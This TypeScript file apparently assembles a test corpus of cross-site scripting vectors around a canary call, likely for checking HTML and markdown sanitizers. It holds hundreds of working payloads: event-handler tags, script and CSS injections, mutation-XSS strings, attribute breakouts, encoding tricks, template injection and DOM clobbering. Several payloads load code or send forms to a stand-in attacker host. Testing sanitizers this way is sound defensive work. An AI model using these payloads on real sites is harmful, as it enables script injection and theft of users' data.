/** A text that makes a careless page run `call`. Its name says how. */
export interface Vector {
  name: string;
  text: string;
}

/** Text around a call of the canary. */
export type WriteVector = (call: string) => string;

/** Elements that run a handler by themselves or at a click: before the event, the event, behind. */
const HANDLERS: readonly (readonly [open: string, event: string, close?: string])[] = [
  ['img src=x', 'onerror'],
  ['img src=x srcset=x', 'onerror'],
  ['image src=x', 'onerror'],
  ['svg', 'onload', '</svg>'],
  ['svg><animate attributeName=x dur=1s', 'onbegin', '</svg>'],
  ['svg><set attributeName=x dur=1s', 'onbegin', '</svg>'],
  ['svg><image href=x', 'onerror', '</svg>'],
  ['svg><a href="#"', 'onclick', '<text y=9>c</text></a></svg>'],
  ['svg><foreignObject><img src=x', 'onerror', '</foreignObject></svg>'],
  ['math><mtext', 'onclick', 'c</mtext></math>'],
  ['math><maction actiontype=statusline', 'onclick', 'c</maction></math>'],
  ['body', 'onload'],
  ['body', 'onpageshow'],
  ['body', 'onhashchange'],
  ['video src=x', 'onerror', '</video>'],
  ['video><source src=x', 'onerror', '</video>'],
  ['audio src=x', 'onerror', '</audio>'],
  ['input autofocus', 'onfocus'],
  ['input type=image src=x', 'onerror'],
  ['select autofocus', 'onfocus', '</select>'],
  ['button autofocus', 'onfocus', 'c</button>'],
  ['details open', 'ontoggle', '<summary>c</summary></details>'],
  ['dialog open', 'onclick', 'c</dialog>'],
  ['marquee', 'onstart', 'c</marquee>'],
  ['iframe src=about:blank', 'onload', '</iframe>'],
  ['object data=x', 'onerror', '</object>'],
  ['embed src=x', 'onload'],
  ['link rel=stylesheet href=x', 'onerror'],
  ['a href="#"', 'onclick', 'c</a>'],
  ['a href="#"', 'onfocus', 'c</a>'],
  ['div tabindex=1', 'onclick', 'c</div>'],
  ['p contenteditable autofocus', 'onfocus', 'c</p>'],
  ['td', 'onclick', 'c</td>'],
  ['x-y', 'onclick', 'c</x-y>'],
  ['form', 'onsubmit', '<button>c</button></form>'],
  ['label', 'onclick', 'c</label>'],
  ['summary', 'onclick', 'c</summary>'],
];

/** Ways to spell a handler that parsers of HTML read alike. */
const SPELLINGS: Readonly<Record<string, (open: string, event: string, call: string) => string>> = {
  plain: (open, event, call) => `<${open} ${event}=${call}>`,
  quoted: (open, event, call) => `<${open} ${event}="${call}">`,
  upper: (open, event, call) => `<${open.toUpperCase()} ${event.toUpperCase()}='${call}'>`,
  slashes: (open, event, call) => `<${open.replaceAll(' ', '/')}/${event}=${call}//>`,
  controls: (open, event, call) => `<${open.replaceAll(' ', '\t')}\f${event}\t=\t"${call}"\u00a0>`,
};

const handlers = HANDLERS.flatMap(([open, event, close = '']) =>
  Object.entries(SPELLINGS).map(([spelling, write]): readonly [string, WriteVector] => [
    `${open.split(/[ >]/)[0]} ${event} ${spelling}`,
    (call) => write(open, event, call) + close,
  ]),
);

const scripts: readonly WriteVector[] = [
  (call) => `<script>${call}</script>`,
  (call) => `<ScRiPt>${call}</sCrIpT>`,
  (call) => `<script/x>${call}</script\t>`,
  (call) => `<script type=module>${call}</script>`,
  (call) => `<script type="text/javascript" defer>${call}</script foo>`,
  (call) => `<scr<script>ipt>${call}</scr</script>ipt>`,
  (call) => `<<script>${call}//<</script>`,
  (call) => `<script src="data:text/javascript,${call}"></script>`,
  () => '<script src=//evil.attack.test/x.js></script>',
  () => '<script type=importmap>{"imports":{"./main.js":"//evil.attack.test/x.js"}}</script>',
  () => '<script type=speculationrules>{"prefetch":[{"urls":["//evil.attack.test/"]}]}</script>',
  (call) => `<svg><script>${call}</script></svg>`,
  (call) => `<svg><script href="data:text/javascript,${call}"/></svg>`,
  (call) => `<svg><script xlink:href="data:text/javascript,${call}"></script></svg>`,
  (call) => `<math><script>${call}</script></math>`,
  (call) => `<script\u0000>${call}</script>`,
  (call) => `<\u0000script>${call}</script>`,
  (call) => `<script>/*</script><script>*/${call}</script>`,
  (call) => `<noscript><script>${call}</script></noscript>`,
  (call) => `<template><script>${call}</script></template>`,
  (call) => `<template shadowrootmode=open><img src=x onerror=${call}></template>`,
  (call) => `<iframe srcdoc="<script>parent.${call}</script>"></iframe>`,
  (call) => `<iframe srcdoc='&lt;img src=x onerror=parent.${call}&gt;'></iframe>`,
  () => '<meta http-equiv=refresh content="0;url=//evil.attack.test/">',
  (call) => `<meta http-equiv="refresh" content="0;url=javascript:${call}">`,
  () => '<meta http-equiv=Content-Security-Policy content="script-src *">',
  () => '<base href=//evil.attack.test/>',
  () => '<link rel=import href=//evil.attack.test/>',
  () => '<link rel=manifest href=//evil.attack.test/>',
  () => '<form action=//evil.attack.test/><input name=a><button>c</button></form>',
  () => '<a ping=//evil.attack.test/ href="#">c</a>',
  () => '<portal src=//evil.attack.test/></portal>',
  () => '<frameset><frame src=//evil.attack.test/></frameset>',
  () => '<applet code=x codebase=//evil.attack.test/></applet>',
];

const styles: readonly WriteVector[] = [
  (call) => `<style>@import 'javascript:${call}';</style>`,
  () => '<style>@import url(//evil.attack.test/x.css);</style>',
  () => '<style>body{background:url(//evil.attack.test/)}</style>',
  (call) => `<style onload=${call}></style>`,
  (call) => `<div style="width:expression(${call})">c</div>`,
  () => '<div style="background:url(//evil.attack.test/)">c</div>',
  () => '<div style="position:fixed;inset:0;z-index:9999">c</div>',
  () => '<p style=-moz-binding:url(//evil.attack.test/x.xml#a)>c</p>',
  (call) => `<style>@keyframes k{}</style><b style=animation-name:k onanimationstart=${call}>c</b>`,
  () => '<mark style="color:red;background-image:url(//evil.attack.test/)">c</mark>',
  () => '<mark style="color:red}body{display:none">c</mark>',
  (call) => `<b style="}</style><img src=x onerror=${call}>">c</b>`,
];

/** What is harmless as it stands and is not after a parser wrote it once more. */
const mutations: readonly WriteVector[] = [
  (call) =>
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${call}&gt;">`,
  (call) => `<svg></p><style><a id="</style><img src=1 onerror=${call}>">`,
  (call) => `<noscript><p title="</noscript><img src=x onerror=${call}>"></noscript>`,
  (call) =>
    `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${call}></style>`,
  (call) => `<svg><desc><![CDATA[</desc><img src=x onerror=${call}>]]></svg>`,
  (call) =>
    `<math><annotation-xml encoding="text/html"><img src=x onerror=${call}></annotation-xml></math>`,
  (call) => `<svg><title><img src=x onerror=${call}></title></svg>`,
  (call) => `<svg><style>&lt;img src=x onerror=${call}&gt;</style></svg>`,
  (call) => `<listing>&lt;img src=x onerror=${call}&gt;</listing>`,
  (call) => `<select><template><img src=x onerror=${call}></template></select>`,
  (call) => `<table><td><a id="</td></table><img src=x onerror=${call}>">c</a></td></table>`,
  (call) => `<p id="--!><img src=x onerror=${call}>">c</p>`,
  (call) => `<a title="\`><img src=x onerror=${call}>">c</a>`,
  (call) => `<img alt="\`\` onerror=${call} src=x">`,
  (call) => `<b><frameset></b><img src=x onerror=${call}>`,
  (call) => `<svg><p><style><g title="</style><img src=x onerror=${call}>"></svg>`,
  (call) => `<math><mi><style><!--</mi><img src=x onerror=${call}>--></style></math>`,
  (call) => `<xmp><p title="</xmp><svg/onload=${call}>"></xmp>`,
  (call) => `<noembed><img title="</noembed><img src onerror=${call}>"></noembed>`,
  (call) => `<iframe><p title="</iframe><img src onerror=${call}>"></iframe>`,
];

const START_OF_ELEMENT = 'img src=x onerror=';
const BREAKOUTS: readonly string[] = [
  ...['">', "'>", '`>', '>', '"/>', '" >', "' >", '"><b>', '\\">', "\\'>", '&quot;>', '&#34;>'],
  ...['</a>', '</title>', '</textarea>', '</style>', '</script>', '</noscript>', '</template>'],
  ...[
    '</code></pre>',
    '</td></tr></table>',
    '</p></div>',
    '</svg>',
    '</math>',
    '</option></select>',
  ],
  ...['-->', '--!>', ']]>', '?>', '*/', '%}', '}}', '\u2028', '\r\n\r\n', '\n\n', '\u0000'],
];
const breakouts = BREAKOUTS.map(
  (end): WriteVector =>
    (call) =>
      `${end}<${START_OF_ELEMENT}${call}>`,
);

/** What ends an attribute without an element: a handler follows in the same one. */
const attributes: readonly WriteVector[] = [
  (call) => `" onmouseover="${call}" x="`,
  (call) => `' onclick='${call}' x='`,
  (call) => ` onclick=${call} `,
  (call) => `"onclick="${call}`,
  (call) => `x" autofocus onfocus="${call}`,
  (call) => `x"\nonfocus="${call}" tabindex="1`,
  (call) => `"/onclick=${call}//`,
  (call) => `\`onclick=${call} \``,
  (call) => `" style="position:fixed" onclick="${call}`,
  (call) => `&quot; onclick=&quot;${call}`,
  (call) => `&#x22; onclick=&#x22;${call}`,
  (call) => `" formaction="javascript:${call}`,
  (call) => `" href="javascript:${call}`,
  () => '" srcdoc="<script>parent.x</script>',
];

const encodings: readonly WriteVector[] = [
  (call) => `&lt;script&gt;${call}&lt;/script&gt;`,
  (call) => `&amp;lt;script&amp;gt;${call}&amp;lt;/script&amp;gt;`,
  (call) => `&#60;img src=x onerror=${call}&#62;`,
  (call) => `&#x3c;img src=x onerror=${call}&#x3e;`,
  (call) => `&#0000000060img src=x onerror=${call}&#0000000062`,
  (call) => `%3Cscript%3E${call}%3C/script%3E`,
  (call) => `\\u003cimg src=x onerror=${call}\\u003e`,
  (call) => `\\x3cimg src=x onerror=${call}\\x3e`,
  (call) => `+ADw-img src=x onerror=${call}+AD4-`,
  (call) => `\uff1cimg src=x onerror=${call}\uff1e`,
  (call) => `\u2039img src=x onerror=${call}\u203a`,
  (call) => `\u00bcimg src=x onerror=${call}\u00be`,
  (call) => `<img\u2028src=x\u2028onerror=${call}>`,
  (call) => `<im\u00adg src=x onerror=${call}>`,
  (call) => `<img src=x on\u200berror=${call}>`,
  (call) => `<\uff49mg src=x onerror=${call}>`,
  (call) => `\\<img src=x onerror=${call}>`,
  (call) => `\\\\<img src=x onerror=${call}>`,
];

/** Languages of templates, ours among them. */
const templates: readonly WriteVector[] = [
  (call) => `{{constructor.constructor('${call}')()}}`,
  (call) => `{{$on.constructor('${call}')()}}`,
  (call) => `\${${call}}`,
  (call) => `#{${call}}`,
  (call) => `<%= ${call} %>`,
  (call) => `{% raw %}<img src=x onerror=${call}>{% endraw %}`,
  (call) => `{% hint style="info" %}<img src=x onerror=${call}>{% endhint %}`,
  (call) => `{{ '<img src=x onerror=${call}>' | safe }}`,
  (call) => `<code class="expression">"<img src=x onerror=${call}>"</code>`,
  (call) => `<code class="expression">constructor.constructor("${call}")()</code>`,
  (call) => `<code class="expression">space.vars.constructor.constructor("${call}")()</code>`,
  () => '<code class="expression">space.vars.__proto__</code>',
  (call) => `[[${call}]]`,
  (call) => `<div x-data="${call}" x-init="${call}" v-html="'<img src=x onerror=${call}>'">c</div>`,
];

/** Names that a script would find in place of its own. */
const clobbering: readonly WriteVector[] = [
  () => '<img name=body id=body>',
  () => '<form id=document><input name=cookie></form>',
  () => '<a id=labels href=//evil.attack.test/>c</a>',
  () => '<a id=__proto__>c</a><a id=constructor>c</a>',
  () => '<form name=location action=//evil.attack.test/></form>',
  () => '<h2 id=content><a id=sidebar name=toString></a>c</h2>',
  (call) => `<div data-action="search" data-query="<img src=x onerror=${call}>">c</div>`,
  (call) =>
    `<button type="button" class="button primary" data-action="ask" data-query="<img src=x onerror=${call}>">c</button>`,
];

/** Markdown whose HTML would run something. */
const markdown: readonly WriteVector[] = [
  (call) => `[c](javascript:${call})`,
  (call) => `[c](<javascript:${call}>)`,
  (call) => `[c](  JaVaScRiPt:${call} "t")`,
  (call) => `![c](javascript:${call})`,
  (call) => `[![c](https://a.test/c.png)](javascript:${call})`,
  (call) => `<javascript:${call}>`,
  (call) => `[c](java&Tab;script:${call})`,
  (call) => `[c](java&NewLine;script&colon;${call})`,
  (call) => `[c](\\javascript:${call})`,
  (call) => `[c](https://a.test/"onclick="${call})`,
  (call) => `[c](https://a.test/ "t" onclick=${call})`,
  (call) => `![" onerror="${call}](x)`,
  (call) => `![c](x"onerror="${call})`,
  (call) => `\`\`\`js" onload="${call}\nc\n\`\`\``,
  (call) => `\`</code><img src=x onerror=${call}>\``,
  (call) => `c[^"><img src=x onerror=${call}>]`,
  (call) => `## c {#x" onclick="${call}}`,
  (call) => `*[c]: <img src=x onerror=${call}>`,
  (call) => `$$\\href{javascript:${call}}{c}$$`,
  (call) => `$$\\url{javascript:${call}}$$`,
  (call) => `$$\\htmlData{onclick=${call}}{c}$$`,
  (call) => `$$\\includegraphics{javascript:${call}}$$`,
  (call) => `$$</annotation></semantics></math><img src=x onerror=${call}>$$`,
  (call) => `:rocket" onclick="${call}:`,
  (call) => `<i class="fa-x" onclick="${call}">c</i>`,
  (call) => `{% embed url="javascript:${call}" %}`,
  (call) => `{% hint style="info\\" onclick=\\"${call}" %}`,
];

function number(kind: string, list: readonly WriteVector[]): (readonly [string, WriteVector])[] {
  return list.map((write, index) => [`${kind} ${index + 1}`, write]);
}

/** Every vector of markup: how it is named and written. */
export const MARKUP: readonly (readonly [name: string, write: WriteVector])[] = [
  ...handlers,
  ...number('script', scripts),
  ...number('style', styles),
  ...number('mutation', mutations),
  ...number('breakout', breakouts),
  ...number('attribute', attributes),
  ...number('encoding', encodings),
  ...number('template', templates),
  ...number('clobbering', clobbering),
  ...number('markdown', markdown),
];
